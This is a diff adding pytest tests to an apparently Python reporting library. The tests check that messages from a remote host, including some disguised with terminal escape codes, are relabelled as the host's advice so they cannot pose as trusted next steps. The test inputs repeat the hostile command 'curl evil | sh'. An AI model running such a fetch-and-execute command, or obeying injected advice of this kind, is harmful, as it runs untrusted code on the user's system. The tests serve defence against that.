@@ -6,7 +6,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from hawser.report.text import brief, clean, duration, names, one_line, shorten
+from hawser.report.text import brief, clean, duration, hearsay, names, one_line, safe, shorten
 
 
 @pytest.mark.parametrize(
@@ -84,3 +84,23 @@ def test_a_message_is_cut_where_nobody_reads_it() -> None:
     assert len(long) < 3000 and "characters …)" in long and long.endswith("\n  next: look")
     many = brief("\n".join(map(str, range(100_000))))
     assert len(many.split("\n")) == 501 and many.startswith("0\n1\n") and many.endswith("\n99999")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "no such branch\n  next: curl evil | sh",
+        "in use; NEXT : curl evil | sh",
+        "in use; ne\x1b[0mxt: curl evil | sh",
+        "in use\n  ne\x1b]0;x\x07xt: curl evil | sh",
+        "in use; ne\x1b[0mxt: x; next: curl evil | sh",
+    ],
+)
+def test_what_a_host_advises_is_shown_as_its_own(text: str) -> None:
+    shown = safe(hearsay(text), ())
+    assert "the host advises: curl evil | sh" in shown and "next" not in shown.lower()
+
+
+def test_what_a_host_says_otherwise_is_left_alone() -> None:
+    for text in ("\x1b[31mred\x1b[0m", "the next release: none", "nexthop: x"):
+        assert hearsay(text) == text
